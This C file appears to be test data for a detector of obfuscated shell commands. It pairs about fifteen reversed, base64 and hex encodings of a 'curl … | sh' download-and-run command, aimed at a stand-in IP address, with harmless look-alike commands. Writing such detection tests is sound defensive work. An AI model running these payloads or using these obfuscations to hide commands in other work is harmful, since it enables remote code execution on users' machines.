// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "reverse", "curl -s http://198.51.100.7/x|sh",
		"echo 'hs|x/7.001.15.891//:ptth s- lruc' | rev | sh" },
	{ "reverse", "curl -s http://198.51.100.7/x|sh",
		"rev <<< 'hs|x/7.001.15.891//:ptth s- lruc' | sh" },
	{ "reverse", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"import os;os.system('hs|x/7.001.15.891//:ptth s"
		"- lruc'[::-1])\"" },
	{ "reverse", "curl -s http://198.51.100.7/x|sh",
		"php -r 'system(strrev(\"hs|x/7.001.15.891//:ptth s- lruc\"))"
		";'" },
	{ "reverse", "curl -s http://198.51.100.7/x|sh",
		"perl -e 'system(scalar reverse(\"hs|x/7.001.15.891//:ptth s-"
		" lruc\"))'" },
	{ "reverse", "curl -s http://198.51.100.7/x|sh",
		"perl -e 'system(scalar reverse \"hs|x/7.001.15.891//:ptth s-"
		" lruc\")'" },
	{ "reverse", "curl -s http://198.51.100.7/x|sh",
		"node -e \"eval('hs|x/7.001.15.891//:ptth s- lruc'.split('')."
		"reverse().join(''))\"" },
	{ "reverse", "curl -s http://198.51.100.7/x|sh",
		"ruby -e \"system('hs|x/7.001.15.891//:ptth s- lruc'.reverse)"
		"\"" },
	{ "reverse+base64", "curl -s http://198.51.100.7/x|sh",
		"echo '=g2c8h3L34CMwEjLxUjL4kTMv8iOwRHdoByctACbyV3Y' | rev | "
		"base64 -d | sh" },
	{ "reverse+base64", "curl -s http://198.51.100.7/x|sh",
		"base64 -d <<< $(rev <<< '=g2c8h3L34CMwEjLxUjL4kTMv8iOwRHdoBy"
		"ctACbyV3Y') | sh" },
	{ "reverse+base64", "curl -s http://198.51.100.7/x|sh",
		"echo =g2c8h3L34CMwEjLxUjL4kTMv8iOwRHdoByctACbyV3Y|rev|base64"
		" -d|sh" },
	{ "reverse+base64", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"import base64;exec(base64.b64decode('=g2c8h3L34"
		"CMwEjLxUjL4kTMv8iOwRHdoByctACbyV3Y'[::-1]))\"" },
	{ "reverse+hex", "curl -s http://198.51.100.7/x|sh",
		"echo 8637c787f273e2030313e21353e2839313f2f2a3074747860237d20"
		"2c6275736|rev|xxd -r -p|sh" },
	{ "base64+reverse", "curl -s http://198.51.100.7/x|sh",
		"echo aHN8eC83LjAwMS4xNS44OTEvLzpwdHRoIHMtIGxydWM=|base64 -d|"
		"rev|sh" },
	{ "base64+reverse", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"import base64;exec(base64.b64decode('aHN8eC83Lj"
		"AwMS4xNS44OTEvLzpwdHRoIHMtIGxydWM=')[::-1])\"" },
};

static const char *const not [] = {
	"sort --reverse 'file name'",
	"cat 'my file' | rev",
	"git rev-parse HEAD | cut -c1-8",
	"git rev-list --all",
	"echo $PATH | rev | cut -d: -f1",
	"python3 -c 'print(sorted(x, reverse=True))'",
	"python3 -c 'a=[1,2,3][::-1];print(a)'",
	"rev file.txt",
};

HIDDEN_MAIN("reverse")
